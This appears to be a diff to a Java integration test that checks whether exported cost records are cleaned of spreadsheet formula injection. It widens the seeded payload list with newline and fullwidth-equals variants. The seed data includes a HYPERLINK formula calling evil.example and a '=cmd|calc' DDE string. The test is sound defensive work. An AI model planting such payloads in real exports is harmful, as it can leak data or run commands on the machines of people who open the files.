@@ -272,7 +272,7 @@ class CostStoryIT {
                   corrects, amount, basis, currency, recorded_at, kind, skill, model, parameters,
                   accepted_at)
                 SELECT gen_random_uuid(), stage_id, job_id, tenant_id,
-                  (ARRAY['=1+1', '+1', '-1', '@SUM(A1)', E'\\t=1', E'\\r=1'])[1 + n % 6],
+                  (ARRAY['=1+1', '+1', '-1', '@SUM(A1)', E'\\t=1', E'\\r=1', E'\\n=1', E'\\uFF1D1'])[1 + n % 8],
                   '=HYPERLINK("http://evil.example/?' || n || '","a"",b")', provider, id, -0.01,
                   'REPORTED', 'USD', now(), kind, '@skill', E'-2+3\\n=cmd|calc',
                   '{"resolution":"=1"}', accepted_at
@@ -296,7 +296,7 @@ class CostStoryIT {
     for (List<String> row : rows) {
       for (int i = 0; i < row.size(); i++) {
         if (i != amount) {
-          assertThat(row.get(i)).doesNotMatch("(?s)[=+\\-@\\t\\r].*");
+          assertThat(row.get(i)).doesNotMatch("(?s)[=+\\-@\\t\\r\\n\uFF1D].*");
         }
       }
     }
